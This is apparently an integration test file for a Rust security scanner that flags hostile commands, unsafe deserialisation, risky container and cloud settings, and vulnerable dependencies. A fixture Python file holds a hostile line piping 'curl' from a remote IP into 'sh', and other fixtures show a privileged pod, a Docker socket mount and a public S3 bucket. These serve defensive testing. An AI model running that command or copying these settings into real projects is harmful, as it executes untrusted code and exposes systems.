//! `bastide scan` on a project: its code, its notebooks, its infrastructure files, and what it depends on.
#![allow(clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

mod common;

use std::fs;
use std::process::Output;

use bastide_testkit::temp_folder;
use common::bastide;
use serde_json::{Value, json};
use tempfile::TempDir;

const ADVISORY: &str = r#"{"id": "PYSEC-2020-108", "aliases": ["CVE-2020-13092"], "published": "2020-05-15T19:15:00Z",
    "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
    "affected": [{"package": {"ecosystem": "PyPI", "name": "scikit-learn"},
    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "0.23.1"}]}]}]}"#;

/// `{"_sklearn_version": "0.22"}`, as an estimator of scikit-learn keeps it.
const PICKLE: &[u8] =
    b"\x80\x03csklearn.linear_model\nLinearRegression\n)\x81}X\x10\x00\x00\x00_sklearn_versionX\x04\x00\x00\x000.22sb.";

fn folder(files: &[(&str, &[u8])]) -> TempDir {
    let folder = temp_folder().expect("a folder");
    for (name, bytes) in files {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, bytes).expect("a file");
    }
    folder
}

fn scan(arguments: &[&str], folder: &TempDir) -> Output {
    let path = folder.path().to_str().expect("a plain path");
    let all = ["scan"].iter().chain(arguments).map(|a| a.replace("DIR", path));
    let all: Vec<String> = all.collect();
    bastide(&all.iter().map(String::as_str).collect::<Vec<_>>(), &[])
}

fn code(output: &Output) -> i32 {
    output.status.code().expect("an exit code")
}

fn json_of(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)))
}

/// Format, verdict and rules of the file whose path ends so.
fn of(value: &Value, name: &str) -> (String, String, Vec<String>) {
    let files = value["files"].as_array().expect("files");
    let file = files.iter().find(|file| file["path"].as_str().is_some_and(|path| path.ends_with(name)));
    let file = file.unwrap_or_else(|| panic!("no {name}"));
    let text = |value: &Value| value.as_str().expect("text").to_owned();
    let ids = file["findings"].as_array().expect("findings").iter().map(|finding| text(&finding["id"]));
    (text(&file["format"]), text(&file["verdict"]), ids.collect())
}

#[test]
fn a_project_is_judged_file_by_file() {
    let dir = folder(&[
        ("bad.py", b"import os\nos.system('curl http://198.51.100.7/x | sh')\n"),
        ("weak.py", b"import torch\nx = torch.load('a.pt', weights_only=False)\n"),
        ("good.py", b"import torch\nx = torch.load('a.pt', weights_only=True)\n"),
        ("n.ipynb", br#"{"nbformat": 4, "cells": [{"cell_type": "code", "outputs": [], "source": ["import torch\n", "torch.load('a', weights_only=False)"]}]}"#),
        ("k8s/pod.yaml", b"apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - name: a\n    image: a@sha256:1\n    securityContext: {privileged: true}\n"),
        ("compose.yaml", b"services:\n  a:\n    image: a:1\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n"),
        ("Dockerfile", b"FROM python:3.13\nUSER app\nENV OPENAI_API_KEY=\n"),
        ("main.tf", b"resource \"aws_s3_bucket_acl\" \"a\" {\n  bucket = \"a\"\n  acl    = \"public-read\"\n}\n"),
    ]);
    let output = scan(&["--json", "DIR"], &dir);
    assert_eq!(code(&output), 1);
    let value = json_of(&output);
    for (name, format, verdict, rule) in [
        ("bad.py", "python", "malicious", "code.hostile-command"),
        ("weak.py", "python", "review", "code.torch-load-unsafe"),
        ("n.ipynb", "notebook", "review", "code.torch-load-unsafe"),
        ("pod.yaml", "kubernetes", "review", "infra.privileged"),
        ("compose.yaml", "compose", "review", "infra.container-socket"),
        ("main.tf", "terraform", "review", "infra.public-bucket"),
    ] {
        let found = of(&value, name);
        assert_eq!((found.0.as_str(), found.1.as_str()), (format, verdict), "{name}: {found:?}");
        assert!(found.2.iter().any(|id| id == rule), "{name}: {found:?}");
    }
    assert_eq!(of(&value, "good.py").1, "clean");
    assert_eq!(
        (of(&value, "Dockerfile").0.as_str(), of(&value, "Dockerfile").1.as_str()),
        ("dockerfile", "clean")
    );
}

#[test]
fn a_clean_project_passes_even_strictly() {
    let dir = folder(&[
        ("a.py", b"import os\n\n\ndef gpus():\n    os.system('nvidia-smi')\n"),
        ("requirements.txt", b"numpy==2.1.0\n"),
        ("osv/a.json", ADVISORY.as_bytes()),
    ]);
    let output = scan(&["--strict", "--osv", "DIR/osv", "DIR"], &dir);
    assert_eq!(code(&output), 0, "{}", String::from_utf8_lossy(&output.stdout));
}

#[test]
fn dependencies_are_matched_offline_and_patches_have_a_time() {
    let dir = folder(&[
        ("p/requirements.txt", b"numpy==2.1.0\nscikit-learn==0.22\n"),
        ("p/model.pkl", PICKLE),
        ("osv/PyPI/a.json", ADVISORY.as_bytes()),
    ]);
    let arguments = ["--json", "--osv", "DIR/osv", "--cyclonedx", "DIR/b.json", "DIR/p"];
    let output = scan(&arguments, &dir);
    assert_eq!(code(&output), 0, "{}", String::from_utf8_lossy(&output.stderr));
    let value = json_of(&output);
    for name in ["requirements.txt", "model.pkl"] {
        let found = of(&value, name);
        assert_eq!(found.1, "review", "{name}: {found:?}");
        for rule in ["dependency.vulnerable-critical", "dependency.overdue"] {
            assert!(found.2.iter().any(|id| id == rule), "{name}: {found:?}");
        }
    }
    let bom: Value = serde_json::from_str(&fs::read_to_string(dir.path().join("b.json")).expect("a report"))
        .expect("JSON");
    assert_eq!(bom["vulnerabilities"][0]["affects"], json!([{"ref": "pkg:pypi/scikit-learn@0.22"}]));

    let patient = json_of(&scan(&["--json", "--osv", "DIR/osv", "--sla", "critical=100000", "DIR/p"], &dir));
    assert!(!of(&patient, "requirements.txt").2.iter().any(|id| id == "dependency.overdue"));
    assert_eq!(code(&scan(&["--osv", "DIR/osv", "--sla", "urgent=1", "DIR/p"], &dir)), 2);
    assert_eq!(code(&scan(&["--sla", "low=1", "DIR/p"], &dir)), 2, "a time without advisories");
    assert_eq!(
        code(&scan(&["--osv", "DIR/p", "DIR/p"], &dir)),
        3,
        "a folder without advisories is no answer"
    );
}
